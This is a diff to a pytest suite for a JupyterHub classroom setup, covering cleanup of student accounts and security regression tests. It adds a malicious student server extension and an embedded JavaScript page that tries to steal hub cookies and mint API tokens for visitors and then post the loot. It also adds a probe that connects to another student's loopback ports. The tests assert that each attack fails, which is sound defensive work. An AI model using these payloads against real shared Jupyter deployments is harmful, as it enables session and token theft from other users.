@@ -61,14 +61,26 @@ def room():
             hub.wait_ready(name, tokens[name])
         yield r, hub, tokens
     finally:
-        left = []
-        if hub is not None:
-            hub.stop()
-            time.sleep(1)
-            left = r.student_pids()
-        r.remove_students()
-        r.cleanup()
+        left, remembered = [], []
+        try:
+            if hub is not None:
+                hub.stop()
+                time.sleep(1)
+                left = r.student_pids()
+            r.remove_students()  # the hub is down: students.sh deletes the hub's users in its database
+            db = r.state / "jupyterhub.sqlite"
+            if db.exists():
+                import sqlite3
+
+                with contextlib.closing(sqlite3.connect(db)) as con:
+                    remembered = [n for (n,) in con.execute("SELECT name FROM users")
+                                  if n in r.names() or n.startswith("ilab-")]
+                r.reset_hub_state()  # ROOM.md's reset between courses, as written
+                assert not db.exists() and not (r.state / "jupyterhub_cookie_secret").exists()
+        finally:
+            r.cleanup()
         assert not left, f"student processes still running after the hub stopped: {left}"
+        assert not remembered, f"the hub's database still holds removed accounts: {remembered}"
 
 
 @pytest.fixture(scope="module")
@@ -92,8 +104,7 @@ def write_lab_settings(name: str) -> None:
         p = base / "lab" / "user-settings" / rel
         p.parent.mkdir(parents=True, exist_ok=True)
         p.write_text(json.dumps(value))
-    for config in ("jupyter_server_config.json", "jupyter_lab_config.json"):
-        (base / config).write_text(json.dumps({"LabApp": {"expose_app_in_browser": True}}))
+    # (the app object is exposed by the hub's INTERPLAB_ROOM_SERVER_ARGS: the room loads no ~/.jupyter config)
     for p in [base, *base.rglob("*")]:
         shutil.chown(p, account.pw_uid, account.pw_gid)
 
@@ -237,6 +248,7 @@ def test_a_wrong_password_is_refused_and_the_teacher_is_the_hubs_admin(room):
 
 def test_notebooks_reach_each_home_and_an_edit_survives_a_restart(room):
     r, hub, tokens = room
+    assert len(NOTEBOOKS) == 6, f"ROOM.md says the six notebooks: {NOTEBOOKS}"
     for name in NAMES:
         listing = hub.api("GET", f"/user/{name}/api/contents/interplab-notebooks", tokens[name]).json()
         assert sorted(c["name"] for c in listing["content"]) == NOTEBOOKS, (name, listing)
@@ -458,46 +470,104 @@ def test_the_server_config_works_from_a_system_config_folder(room):
     assert oct(runtime.stat().st_mode & 0o777) == "0o700", oct(runtime.stat().st_mode)
 
 
-def test_students_sh_remove_leaves_nothing_in_tmp(tmp_path):
-    """`students.sh remove` after an account that left files in /tmp, /var/tmp and /dev/shm (torch's
-    /tmp/torchinductor_NAME): nothing owned by its uid is left there (the next account would get the uid)."""
-    import os
+def world_writable_dirs() -> list[str]:
+    """Every directory on this machine that any account may write (its file systems: /, /dev/shm, /run)."""
+    found = subprocess.run(["find", "/", "/dev/shm", "/run", "-xdev", "-path", "/proc", "-prune", "-o", "-type", "d",
+                            "-perm", "-0002", "-print"], capture_output=True, text=True, timeout=300).stdout
+    return sorted(set(found.split()))
 
-    reason = roomhub.missing_prerequisite()
-    if reason:
-        pytest.skip(reason)
+
+def test_students_sh_remove_leaves_nothing_behind(room):
+    """`students.sh remove` after an account that left what it can outside its home: a file in every directory it may
+    write (found with find, not a list: /tmp, /var/tmp, /dev/shm, /run/lock here; torch's /tmp/torchinductor_NAME),
+    SysV shared memory, a semaphore set and a message queue (ipcmk), a crontab, a process: nothing owned by its uid is
+    left (the next account would get the uid). Needs the room's step 1 (iptables): uses the room fixture."""
+    import os
+    import pwd
+
     script = ROOT / "docs" / "teaching" / "room" / "students.sh"
-    env = {**os.environ, "INTERPLAB_ROOM_GROUP": "ilab-room-test-rm"}
+    env = {**os.environ, "INTERPLAB_ROOM_GROUP": "ilab-room-test-rm", "INTERPLAB_ROOM_TEACHERS": "ilab-room-test-rm",
+           "INTERPLAB_ROOM_STATE": "/nonexistent"}
     name = "ilab-leaver"
 
     def sh(*args):
-        return subprocess.run(["bash", str(script), *args], capture_output=True, text=True, env=env, timeout=60,
+        return subprocess.run(["bash", str(script), *args], capture_output=True, text=True, env=env, timeout=120,
                               check=True).stdout
 
     sh("remove", name)
     out = sh("add", name)
     assert out.splitlines()[0] == "name,password" and out.splitlines()[1].startswith(f"{name},"), out
-    uid = __import__("pwd").getpwnam(name).pw_uid
+    uid = pwd.getpwnam(name).pw_uid
+    dirs = world_writable_dirs()
+    assert {"/tmp", "/var/tmp", "/dev/shm"} <= set(dirs), dirs
     try:
-        subprocess.run(["runuser", "-u", name, "--", "sh", "-c",
-                        f"mkdir -p /tmp/torchinductor_{name}/x && echo 1 > /tmp/torchinductor_{name}/x/y && "
-                        f"echo 1 > /var/tmp/{name}-cache && echo 1 > /dev/shm/{name}-shm && sleep 300 &"],
-                       check=True, timeout=30, cwd="/")
+        made = subprocess.run(
+            ["runuser", "-u", name, "--", "sh", "-c",
+             f"mkdir -p /tmp/torchinductor_{name}/x && echo 1 > /tmp/torchinductor_{name}/x/y; "
+             f"for d in {' '.join(dirs)}; do echo 1 > $d/{name}-left 2>/dev/null && echo $d; done; "
+             "ipcmk -M 4096 >/dev/null && ipcmk -S 1 >/dev/null && ipcmk -Q >/dev/null && echo ipc; "
+             "(echo '0 0 1 1 *' true | crontab - 2>/dev/null); (sleep 300 >/dev/null 2>&1 &)"],
+            capture_output=True, text=True, timeout=30, cwd="/")
+        wrote = made.stdout.split()
+        assert "ipc" in wrote and "/tmp" in wrote and "/dev/shm" in wrote, made
     finally:
         sh("remove", name)
 
     def owned(root):
         hits = []
-        for dirpath, dirs, files in os.walk(root):
-            for f in dirs + files:
+        for dirpath, dirs_, files in os.walk(root):
+            for f in dirs_ + files:
                 with contextlib.suppress(OSError):
                     if os.lstat(os.path.join(dirpath, f)).st_uid == uid:
                         hits.append(os.path.join(dirpath, f))
         return hits
 
-    left = [p for root in ("/tmp", "/var/tmp", "/dev/shm") for p in owned(root)]
+    left = [p for d in dirs for p in owned(d)]
+    for kind in ("shm", "sem", "msg"):
+        lines = pathlib.Path(f"/proc/sysvipc/{kind}").read_text().splitlines()
+        cols = lines[0].split()
+        left += [f"SysV {kind} {f[1]}" for f in (ln.split() for ln in lines[1:])
+                 if uid in (int(f[cols.index("uid")]), int(f[cols.index("cuid")]))]
     assert not left, left
+    print(f"\nroom: {name} wrote into {len([w for w in wrote if w.startswith('/')])} world-writable directories "
+          f"({', '.join(w for w in wrote if w.startswith('/'))}) and SysV IPC; students.sh remove left none of it")
     assert subprocess.run(["id", name], capture_output=True).returncode != 0
+
+
+def test_students_sh_remove_deletes_the_user_from_a_stopped_hubs_database(tmp_path):
+    """The hub is down: students.sh remove deletes the account's user from the hub's database, and with it (SQLite's
+    foreign keys, switched on) its API tokens and server records; another user stays."""
+    import os
+
+    from jupyterhub import orm
+
+    reason = roomhub.missing_prerequisite()
+    if reason:
+        pytest.skip(reason)
+    db = tmp_path / "jupyterhub.sqlite"
+    session = orm.new_session_factory(f"sqlite:///{db}")()
+    session.add(orm.OAuthClient(identifier="jupyterhub"))
+    for name in ("ilab-gone", "ilab-stays"):
+        user = orm.User(name=name)
+        session.add(user)
+        token = orm.APIToken(note="old course", client_id="jupyterhub", scopes=["read:users!user"])
+        session.add(token)
+        token.token = uuid.uuid4().hex  # (stored hashed, as the hub stores it)
+        token.user = user
+        session.add(orm.Spawner(name="", user=user))
+        session.commit()
+    session.close()
+    (tmp_path / "room-accounts.token").write_text("x" * 64)
+    (tmp_path / "room-accounts.url").write_text(f"http://127.0.0.1:{roomhub.free_port()}/hub/api\n")  # nothing there
+    script = ROOT / "docs" / "teaching" / "room" / "students.sh"
+    subprocess.run(["bash", str(script), "remove", "ilab-gone"], check=True, capture_output=True, timeout=60,
+                   env={**os.environ, "INTERPLAB_ROOM_STATE": str(tmp_path), "INTERPLAB_ROOM_GROUP": "ilab-no-group",
+                        "INTERPLAB_ROOM_TEACHERS": "ilab-no-group"})
+    session = orm.new_session_factory(f"sqlite:///{db}")()
+    assert [u.name for u in session.query(orm.User)] == ["ilab-stays"]
+    assert [t.user.name for t in session.query(orm.APIToken)] == ["ilab-stays"]
+    assert [sp.user.name for sp in session.query(orm.Spawner)] == ["ilab-stays"]
+    session.close()
 
 
 def test_the_idle_timeout_outlasts_the_activity_reports(monkeypatch):
@@ -510,6 +580,8 @@ def test_the_idle_timeout_outlasts_the_activity_reports(monkeypatch):
     assert JupyterHub.last_activity_interval.default_value == 300
     assert JupyterHubSingleUser.hub_activity_interval.default_value == 300
     config = ROOT / "docs" / "teaching" / "room" / "jupyterhub_config.py"
+    monkeypatch.setenv("INTERPLAB_ROOM_HOST", "room.example.org")
+    monkeypatch.setenv("INTERPLAB_ROOM_STATE", "/nonexistent/interplab-room-state")  # (no service token written)
     monkeypatch.setenv("INTERPLAB_ROOM_IDLE_TIMEOUT", "599")
     with pytest.raises(ValueError, match="under 600 s"):
         PyFileConfigLoader(config.name, str(config.parent)).load_config()
@@ -524,6 +596,10 @@ def test_the_helm_values_parse_and_hold_what_room_md_names(tmp_path):
     import yaml
 
     values = yaml.safe_load((ROOT / "docs" / "teaching" / "room" / "values.yaml").read_text())
+    hub_config = values["hub"]["config"]
+    assert hub_config["JupyterHub"]["subdomain_host"] == "https://room.example.org"
+    assert hub_config["Spawner"]["disable_user_config"] is True
+    assert values["proxy"]["https"]["hosts"] == ["room.example.org", "*.room.example.org"]
     su = values["singleuser"]
     assert (su["cpu"]["limit"], su["memory"]["limit"]) == (1, "3G")
     assert su["defaultUrl"] == f"/lab/tree/{roomhub.NOTEBOOK}"
@@ -549,3 +625,257 @@ def test_the_helm_values_parse_and_hold_what_room_md_names(tmp_path):
     assert "KernelManager\n  .transport = 'ipc'" in shown.stdout, shown.stdout[-2000:] + shown.stderr[-2000:]
     config = (ROOT / "docs" / "teaching" / "room" / "jupyterhub_config.py").read_text()
     assert '"INTERPLAB_ROOM_MEM_LIMIT", "3G"' in config and '"INTERPLAB_ROOM_IDLE_TIMEOUT", "3600"' in config
+
+
+# ---- issue 54: a link that steals nothing, a hub that forgets, no loopback port between students ------------------
+
+# A student's server extension, as a student would write it into their home: a page at /user/NAME/evil served with no
+# login, which (opened by anyone logged in to the hub) tries to read the hub's cookies through a framed hub file and
+# to make the hub issue the visitor a token, and sends what it got to /user/NAME/evil/loot (written to ~/loot).
+EVIL_EXTENSION = r'''
+import json, pathlib
+from tornado import web
+pathlib.Path.home().joinpath("ext-loaded").write_text("the extension was imported")
+
+class Page(web.RequestHandler):
+    def get(self):
+        self.write(pathlib.Path.home().joinpath("evil.html").read_text())
+
+class Loot(web.RequestHandler):
+    def check_xsrf_cookie(self):
+        pass
+    def post(self):
+        with open(pathlib.Path.home() / "loot", "ab") as f:
+            f.write(self.request.body + b"\n")
+
+def _jupyter_server_extension_points():
+    return [{"module": "evilext"}]
+
+def _load_jupyter_server_extension(app):
+    base = app.web_app.settings["base_url"]
+    app.web_app.add_handlers(".*", [(base + "evil", Page), (base + "evil/loot", Loot)])
+'''
+
+# the page's script: what a visitor's browser lets it read or do on the hub, reported to the page's own origin
+EVIL_PAGE = r'''<!doctype html><title>notes</title><body><script>
+(async () => {
+  const hub = HUB, visitor = VISITOR, got = {cookie: document.cookie};
+  const frame = document.createElement("iframe");
+  const loaded = new Promise((ok) => { frame.onload = () => ok("loaded"); setTimeout(() => ok("timeout"), 10000); });
+  frame.src = hub + "/hub/static/js/utils.js";  // a document (a framed image fires no load event in Chromium)
+  document.body.appendChild(frame);
+  got.frame = await loaded;
+  try { got.framed = frame.contentWindow.document.cookie; } catch (e) { got.framed = "blocked: " + e.name; }
+  const xsrf = ((got.framed || "").match(/_xsrf=([^;]+)/) || [])[1] || "";
+  try {
+    const r = await fetch(hub + "/hub/api/users/" + visitor + "/tokens", {method: "POST", credentials: "include",
+      headers: {"X-XSRFToken": xsrf}, body: JSON.stringify({note: "stolen"})});
+    got.token = r.status + " " + (await r.text());
+  } catch (e) { got.token = "blocked: " + e.name; }
+  await fetch(location.pathname + "/loot", {method: "POST", body: JSON.stringify(got)}).catch(() => {});
+  window.__got = got;
+})().catch((e) => { window.__failed = String(e); throw e; });
+</script>'''
+
+
+def restart_server(hub, name: str, token: str) -> None:
+    assert hub.api("DELETE", f"/hub/api/users/{name}/server", token).status_code in (202, 204)
+    deadline = time.monotonic() + 120
+    while hub.api("GET", f"/hub/api/users/{name}", token).json()["servers"]:
+        assert time.monotonic() < deadline, f"the server of {name} did not stop"
+        time.sleep(0.5)
+    hub.spawn(name, token)
+    hub.wait_ready(name, token)
+
+
+def test_a_students_server_extension_is_not_loaded_and_its_link_steals_no_token(room, chromium):
+    """Issue 54's attack as it was done: a student writes a server extension and the config that enables it into
+    their home (~/.jupyter JSON and Python config, ~/.local/share/jupyter, the module in the home and in
+    ~/.local/lib), restarts their server; another student and the teacher, logged in to the hub, open its link in
+    Chromium. The extension is not imported, its route 404s, no token is made. And had a page of the student's origin
+    run (served here by Playwright in its place): it cannot read the hub's cookies or frame, and the hub refuses it a
+    token."""
+    import os
+    import pwd
+
+    r, hub, tokens = room
+    attacker, visitor, teacher = NAMES[2], NAMES[0], r.teacher
+    account = pwd.getpwnam(attacker)
+    home = pathlib.Path(account.pw_dir)
+    site = home / ".local" / "lib" / f"python{sys.version_info[0]}.{sys.version_info[1]}" / "site-packages"
+    enable = json.dumps({"ServerApp": {"jpserver_extensions": {"evilext": True}}})
+    files = {home / "evilext.py": EVIL_EXTENSION, site / "evilext.py": EVIL_EXTENSION,
+             home / ".jupyter" / "jupyter_server_config.json": enable,
+             home / ".jupyter" / "jupyter_server_config.d" / "evilext.json": enable,
+             home / ".local" / "share" / "jupyter" / "jupyter_server_config.d" / "evilext.json": enable,
+             home / ".local" / "etc" / "jupyter" / "jupyter_server_config.d" / "evilext.json": enable,
+             home / ".jupyter" / "jupyter_server_config.py":
+                 "import pathlib\npathlib.Path.home().joinpath('config-ran').write_text('ran')\n"
+                 "c.ServerApp.jpserver_extensions = {'evilext': True}\n"}
+    teacher_token = hub.login(teacher)
+    who = {visitor: tokens[visitor], teacher: teacher_token}
+
+    def token_ids(name):
+        return sorted(t["id"] for t in hub.api("GET", f"/hub/api/users/{name}/tokens", who[name]).json()["api_tokens"])
+
+    before = {n: token_ids(n) for n in who}
+    made = []
+    try:
+        for path, text in files.items():
+            for d in reversed([path.parent, *path.parent.parents]):
+                if d.is_relative_to(home) and d != home and not d.exists():
+                    d.mkdir()
+                    made.append(d)
+                    os.chown(d, account.pw_uid, account.pw_gid)
+            path.write_text(text)
+            os.chown(path, account.pw_uid, account.pw_gid)
+        restart_server(hub, attacker, tokens[attacker])
+        assert not (home / "ext-loaded").exists() and not (home / "config-ran").exists(), "the student's config ran"
+        evil = f"{hub.user_url(attacker)}/evil"
+        assert hub.request("GET", f"/user/{attacker}/evil", allow_redirects=False).status_code == 404
+        assert hub.api("GET", f"/user/{attacker}/evil", tokens[attacker]).status_code == 404
+        assert hub.user_url(attacker).startswith(f"https://{attacker}.{roomhub.HOST}:")  # its own origin
+        for name in who:
+            page_html = EVIL_PAGE.replace("HUB", json.dumps(hub.url)).replace("VISITOR", json.dumps(name))
+            context = chromium.new_context(ignore_https_errors=True)
+            try:
+                page = context.new_page()
+                page.goto(f"{hub.url}/hub/login?next=%2Fhub%2Fhome")
+                page.fill("input[name=username]", name)
+                page.fill("input[name=password]", r.passwords[name])
+                page.click("input[type=submit], button[type=submit]")
+                page.wait_for_url("**/hub/home", timeout=60000)
+                # what there is to steal: the hub's login and its _xsrf cookie (path /hub/, readable by scripts)
+                hub_cookies = {c["name"]: c["value"] for c in context.cookies(f"{hub.url}/hub/")}
+                assert {"_xsrf", "jupyterhub-hub-login"} <= hub_cookies.keys(), hub_cookies.keys()
+                # the real link: the extension is not there
+                response = page.goto(evil)
+                assert response.status == 404, (name, response.status, page.content()[:500])
+                # the student's origin running the page anyway (Playwright answers in the server's place)
+                page.route(evil, (lambda html: lambda route: route.fulfill(status=200, content_type="text/html",
+                                                                            body=html))(page_html))
+                page.route(f"{evil}/loot", lambda route: route.fulfill(status=204))
+                errors = []
+                page.on("pageerror", lambda e, errors=errors: errors.append(str(e)))
+                page.goto(evil)
+                page.wait_for_function("() => !!window.__got || !!window.__failed", timeout=30000)
+                assert not errors, errors
+                got = page.evaluate("() => window.__got")
+                # (the student's server sets an _xsrf cookie of its own on its origin: not the hub's)
+                assert hub_cookies["_xsrf"] not in got["cookie"] and "jupyterhub-hub-login" not in got["cookie"], got
+                # the hub's file loaded in the frame, and the page cannot reach into it
+                assert got["frame"] == "loaded" and got["framed"] == "blocked: SecurityError", got
+                assert got["token"].startswith(("403", "blocked")), got
+                print(f"\nroom: a page of {attacker}'s origin opened by {name}: {got}")
+            finally:
+                context.close()
+        assert not (home / "loot").exists(), (home / "loot").read_text()
+        assert {n: token_ids(n) for n in who} == before, "a token was made for a visitor"
+    finally:
+        for path in files:
+            path.unlink(missing_ok=True)
+        for d in reversed(made):
+            shutil.rmtree(d, ignore_errors=True)
+        for marker in ("ext-loaded", "config-ran", "loot"):
+            (home / marker).unlink(missing_ok=True)
+
+
+def test_a_removed_and_re_added_student_is_new_to_the_hub(room):
+    """students.sh remove, then add with the same name (next course): the old token and the old login cookies get
+    403 / the login page, on the hub and on the new account's server; the new account's own token works."""
+    import os
+
+    r, hub, tokens = room
+    name = "ilab-again"
+    script = r.root / "room" / "students.sh"
+
+    def sh(*args):
+        return subprocess.run(["bash", str(script), *args], capture_output=True, text=True, env=r.env(), timeout=180,
+                              check=True).stdout
+
+    def password(out):
+        return out.splitlines()[1].split(",")[1]
+
+    r.write_hosts([*r.names(), name])  # its name, NAME.HOST, as the room's wildcard DNS gives it
+    try:
+        r.passwords[name] = password(sh("add", name))
+        old = hub.login(name)
+        old_browser = requests.Session()
+        old_browser.cookies.update(hub.login_form(name, r.passwords[name]).cookies)
+        assert hub.request("GET", "/hub/home", session=old_browser, allow_redirects=False).status_code == 200
+        tok = hub.api("GET", f"/hub/api/users/{name}/tokens", old).json()["api_tokens"]
+        assert tok and all(t["expires_at"] for t in tok), tok  # the room's tokens expire
+        hub.spawn(name, old)
+        hub.wait_ready(name, old)
+        sh("remove", name)  # the hub runs: through its REST API
+        assert hub.api("GET", "/hub/api/user", old).status_code == 403
+        r.passwords[name] = password(sh("add", name))
+        new = hub.login(name)
+        hub.spawn(name, new)
+        hub.wait_ready(name, new)
+        secret = f"/user/{name}/api/contents/interplab-notebooks/{NOTEBOOKS[0]}"
+        assert hub.api("GET", secret, new).status_code == 200
+        assert hub.api("GET", "/hub/api/user", old).status_code == 403
+        assert hub.api("GET", f"/hub/api/users/{name}", old).status_code == 403
+        assert hub.api("GET", secret, old).status_code in (403, 302)
+        home = hub.request("GET", "/hub/home", session=old_browser, allow_redirects=False)
+        assert home.status_code == 302 and "/hub/login" in home.headers["Location"], home.status_code
+        assert hub.request("GET", secret, session=old_browser, allow_redirects=False).status_code != 200
+    finally:
+        with contextlib.suppress(Exception):
+            sh("remove", name)
+        r.passwords.pop(name, None)
+        r.write_hosts(r.names())
+    assert os.system(f"id {name} >/dev/null 2>&1") != 0
+
+
+def test_no_student_reaches_another_students_loopback_ports(room):
+    """A kernel on Unix sockets still listens on one loopback TCP port: ipykernel's IOPubThread pipe (a ZeroMQ PULL
+    socket for forked children's output). Another student connects to every TCP port the victim's uid listens on
+    (/proc/net/tcp): refused, by students.sh's firewall rule. The victim's own process connects to it, and a forked
+    child's print still reaches the victim's notebook."""
+    import pwd
+
+    r, hub, tokens = room
+    attacker, victim = NAMES[0], NAMES[1]
+    kid = hub.start_session(victim, tokens[victim], roomhub.NOTEBOOK)
+    try:
+        ws = hub.connect(victim, tokens[victim], kid, 120)
+        said = roomhub.execute(ws, "import os, time\nprint('pipe', get_ipython().kernel.iopub_thread._pipe_port)\n"
+                                   "pid = os.fork()\nif pid == 0:\n    print('from the forked child', flush=True)\n"
+                                   "    time.sleep(0.5)\n    os._exit(0)\nos.waitpid(pid, 0)\ntime.sleep(1)", 120,
+                               where=victim)
+        ws.close()
+        assert "from the forked child" in said, said
+        pipe = int(said.split("pipe ")[1].split()[0])
+        probe = ("import json, socket, sys\nuid = int(sys.argv[1])\nports = sorted({int(f[1].rsplit(':', 1)[1], 16) "
+                 "for t in ('/proc/net/tcp', '/proc/net/tcp6') for f in (l.split() for l in open(t).readlines()[1:])"
+                 " if f[3] == '0A' and int(f[7]) == uid})\nout = {}\nfor p in ports:\n    s = socket.socket()\n"
+                 "    s.settimeout(10)\n    try:\n        s.connect(('127.0.0.1', p))\n        out[p] = 'connected'\n"
+                 "    except OSError as e:\n        out[p] = type(e).__name__\n    finally:\n        s.close()\n"
+                 "print(json.dumps(out))")
+        uid = str(pwd.getpwnam(victim).pw_uid)
+        got = {}
+        for who in (attacker, victim):
+            run = subprocess.run(["runuser", "-u", who, "--", r.python, "-c", probe, uid], capture_output=True,
+                                 text=True, timeout=300, cwd="/")
+            got[who] = {int(k): v for k, v in json.loads(run.stdout.strip().splitlines()[-1]).items()}
+    finally:
+        hub.stop_kernels(victim, tokens[victim])
+    assert pipe in got[attacker], (pipe, got)  # the kernel's pipe port is the victim's, in /proc/net/tcp
+    assert set(got[attacker].values()) == {"ConnectionRefusedError"}, got[attacker]
+    assert got[victim][pipe] == "connected", got[victim]
+    print(f"\nroom: {attacker} -> {victim}'s {len(got[attacker])} loopback ports (the kernel's pipe {pipe} among "
+          f"them): {sorted(set(got[attacker].values()))}; {victim} -> its own pipe: connected")
+
+
+def test_the_password_lists_are_root_only_and_the_teacher_is_no_student(room):
+    import grp
+    import os
+
+    r, hub, tokens = room
+    for csv in ("passwords.csv", "teacher.csv"):
+        assert oct(os.stat(r.home / csv).st_mode & 0o777) == "0o600", csv
+    assert r.teacher in grp.getgrnam(roomhub.TEACHERS).gr_mem
+    assert r.teacher not in grp.getgrnam(roomhub.GROUP).gr_mem  # ROOM.md's SSH DenyGroups names the students'
+    assert set(NAMES) <= set(grp.getgrnam(roomhub.GROUP).gr_mem)
